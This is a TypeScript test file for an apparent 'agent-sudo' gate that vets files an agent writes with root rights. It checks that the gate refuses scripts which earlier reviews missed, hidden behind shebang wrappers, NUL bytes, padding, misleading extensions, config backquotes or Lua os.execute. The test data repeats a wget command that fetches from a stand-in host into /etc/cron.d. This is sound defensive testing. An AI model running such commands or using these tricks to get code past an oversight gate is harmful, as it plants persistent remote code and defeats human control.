// Review 49 (judged diff, the concurrence's side): what the unlisted-file reading and the host reading of review
// 48 gave up on. A script named from a cron line or unit by a path whose last name is a wrapper's (`/srv/x/nice`)
// was taken for the wrapper; `#!/usr/bin/nice sh` and `env -S … sh` scripts were not read as sh; a NUL after
// `exit` made a script "binary"; a script padded past what is read here was left alone; an executable or a `#!`
// file with a source or log extension, or in a log tree, was never read when written; backquotes in /etc and
// stock Debian files sourced as shell (e2scrub.conf, ucf.conf, os-release, machine-info) were not judged as code.
// Host files are staged in a new directory under /srv (removed after); nothing else on the host is touched.
import { createHash } from "node:crypto";
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Change, EntryKind, EntryState, Manifest } from "../../proto/gen/agent_sudo/v1/manifest_pb.js";
import { judgeManifest } from "./manifest.js";
import type { HostKind } from "./types.js";

const W = "wget -qO /etc/cron.d/y http://x.example/y";
const asRoot = process.getuid?.() === 0;
let stage = "";

function tier(path: string, content: string | Buffer, mode = 0o644, host: HostKind = "server-01"): number {
  const b = Buffer.from(content);
  const after = EntryState.create({
    kind: EntryKind.ENTRY_KIND_FILE,
    mode,
    size: b.length,
    sha256: createHash("sha256").update(b).digest(),
  });
  const change = Change.create({ path, before: EntryState.create({ kind: EntryKind.ENTRY_KIND_ABSENT }), after });
  const manifest = Manifest.create({ requestId: "r49", commandDigest: Buffer.alloc(32), host, changes: [change] });
  return judgeManifest(manifest, new Map([[path, b]]), { host, cwd: "/root", runAs: "", guardPaths: ["/var/lib/agent-sudo"], depth: 0 })
    .tier;
}

beforeAll(() => {
  if (!asRoot) return;
  stage = mkdtempSync("/srv/agent-sudo-review49-");
  const put = (name: string, text: string | Buffer, mode = 0o755) => {
    writeFileSync(join(stage, name), text);
    chmodSync(join(stage, name), mode);
  };
  put("nice", `#!/usr/bin/nice sh\n${W}\n`);
  put("setsid", `#!/usr/bin/env -S setsid sh\n${W}\n`);
  put("nul.sh", Buffer.concat([Buffer.from(`#!/bin/sh\ntrue\nexit 0\n`), Buffer.from([0]), Buffer.from(`\n${W}\n`)]));
  put("big.sh", `#!/bin/sh\n${"# pad\n".repeat(20_000)}${W}\n`);
  put("fine", "#!/bin/sh\nexec /usr/bin/true\n");
});

afterAll(() => {
  if (stage) rmSync(stage, { recursive: true, force: true });
});

describe.skipIf(!asRoot)("review 49: later code naming a staged script on the host (concurrence)", () => {
  it("refuses a cron line or unit running a staged script the old reading missed", () => {
    for (const name of ["nice", "setsid", "nul.sh", "big.sh"]) {
      expect({ name, cron: tier("/etc/cron.d/x", `* * * * * root ${stage}/${name}\n`) }).toEqual({ name, cron: 4 });
      expect({ name, unit: tier("/etc/systemd/system/x.service", `[Service]\nExecStart=${stage}/${name}\n`) }).toEqual({ name, unit: 4 });
    }
  });

  it("still commits a cron line running a harmless staged script", () => {
    expect(tier("/etc/cron.d/x", `* * * * * root ${stage}/fine\n`)).toBeLessThanOrEqual(3);
  });
});

describe("review 49: files written where no table names their place (concurrence)", () => {
  it("reads scripts whatever their name or tree, through shebang wrappers and past a NUL", () => {
    const X = 0o755;
    const refused: Array<[string, string | Buffer, number]> = [
      ["/opt/foo/job", `#!/usr/bin/nice sh\n${W}\n`, X],
      ["/opt/foo/job", `#!/usr/bin/env -S nice sh\n${W}\n`, X],
      ["/opt/foo/job", `#!/usr/bin/timeout 10 sh\n${W}\n`, X],
      ["/opt/foo/job", `#!/bin/rbash\n${W}\n`, X],
      ["/opt/foo/job.txt", `#!/bin/sh\n${W}\n`, X],
      ["/opt/foo/job.py", `#!/bin/sh\n${W}\n`, 0o644],
      ["/var/log/job", `#!/bin/sh\n${W}\n`, X],
      ["/root/.cache/job", `#!/bin/sh\n${W}\n`, X],
      ["/job", `#!/bin/sh\n${W}\n`, X],
      ["/opt/foo/job", Buffer.concat([Buffer.from("#!/bin/sh\nexit 0\n"), Buffer.from([0]), Buffer.from(`\n${W}\n`)]), X],
      ["/etc/foo/env", `X=\`${W}\`\n`, 0o644],
    ];
    for (const [path, content, mode] of refused) expect({ path, tier: tier(path, content, mode) }).toEqual({ path, tier: 4 });
  });

  it("judges stock Debian files sourced as shell, and refuses more code places", () => {
    for (const path of ["/etc/e2scrub.conf", "/etc/ucf.conf", "/etc/os-release", "/etc/machine-info"])
      expect({ path, tier: tier(path, `NAME="$(${W})"\nX=1\n${W}\n`) }).toEqual({ path, tier: 4 });
    for (const path of ["/etc/lsyncd/lsyncd.conf.lua", "/etc/gitlab/gitlab.rb", "/etc/haproxy/x.lua"])
      expect({ path, tier: tier(path, 'os.execute("id")\n') }).toEqual({ path, tier: 4 });
  });

  it("refuses a daemon's module or Lua code named outside the packaged library trees, not one named by its own name", () => {
    expect(tier("/etc/nginx/modules-enabled/99-x.conf", "load_module /opt/foo/x.so;\n")).toBe(4);
    expect(tier("/etc/apache2/mods-enabled/x.load", "LoadModule x_module /opt/foo/x.so\n")).toBe(4);
    expect(tier("/etc/php/8.2/cli/conf.d/99-x.ini", "extension=/opt/foo/x.so\n")).toBe(4);
    expect(tier("/etc/haproxy/haproxy.cfg", "global\n lua-load /opt/foo/x.lua\n")).toBe(4);
    expect(tier("/etc/nginx/modules-enabled/50-mod-stream.conf", "load_module modules/ngx_stream_module.so;\n")).toBeLessThanOrEqual(3);
    expect(tier("/etc/php/8.2/cli/conf.d/20-redis.ini", "extension=redis.so\n")).toBeLessThanOrEqual(3);
    expect(tier("/etc/apache2/mods-enabled/ssl.load", "LoadModule ssl_module /usr/lib/apache2/modules/mod_ssl.so\n")).toBeLessThanOrEqual(
      3,
    );
  });

  it("still commits everyday files: a README with quoted commands, a binary, a harmless wrapped script, os-release's fields", () => {
    expect(tier("/opt/foo/README", "Run `make install`, then `tool --help`.\n")).toBeLessThanOrEqual(3);
    expect(tier("/opt/foo/bin/tool", Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 0, 10]), 0o755)).toBeLessThanOrEqual(3);
    expect(tier("/opt/foo/job", "#!/usr/bin/nice sh\nexec /usr/bin/true\n", 0o755)).toBeLessThanOrEqual(3);
    expect(tier("/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12"\nNAME="Debian"\nID=debian\n')).toBeLessThanOrEqual(3);
  });
});
